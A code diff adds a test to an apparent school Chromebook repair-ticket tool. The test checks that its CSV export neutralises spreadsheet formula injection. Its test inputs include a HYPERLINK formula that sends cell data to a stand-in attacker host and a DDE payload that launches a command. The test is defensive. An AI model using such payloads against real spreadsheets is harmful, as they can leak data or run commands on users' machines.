@@ -118,3 +118,31 @@ def test_hand_off_lists_open_tickets_most_urgent_first_as_csv_and_pdf(
 def test_an_empty_hand_off_says_so(tmp_path: Path) -> None:
     pdf = write_handoff_pdf([], tmp_path / "none.pdf", "Lincoln Middle", str(date.today()))
     assert "No open repair tickets" in PdfReader(pdf).pages[0].extract_text()
+
+
+@pytest.mark.parametrize(
+    "symptom",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")',
+        "+1 more key missing",
+        "-- no power at all",
+        "@SUM(A1:A9)",
+        "=cmd|' /C calc'!A0",
+    ],
+)
+def test_a_symptom_typed_like_a_formula_stays_text_in_the_hand_off_csv(
+    uow: UnitOfWork, three_chromebooks: list[str], tmp_path: Path, symptom: str
+) -> None:
+    ticket = open_ticket(uow, "CB-0001", symptom, "high", "high")
+    update_ticket(uow, ticket.id, it_ticket_number="=1+1")
+    csv_path = write_handoff_csv(tickets(uow), tmp_path / "handoff.csv")
+    with csv_path.open(encoding="utf-8-sig") as handle:
+        [row] = list(csv.DictReader(handle))
+    # a spreadsheet shows a cell starting with an apostrophe as the text after it
+    assert row["symptom"] == "'" + symptom
+    assert row["it_ticket_number"] == "'=1+1"
+    assert row["asset_tag"] == "CB-0001"  # ordinary cells are left alone
+
+    # the PDF for IT prints the symptom as it was typed
+    pdf = write_handoff_pdf(tickets(uow), tmp_path / "handoff.pdf", "Lincoln Middle", "today")
+    assert "'" + symptom[:8] not in PdfReader(pdf).pages[0].extract_text()
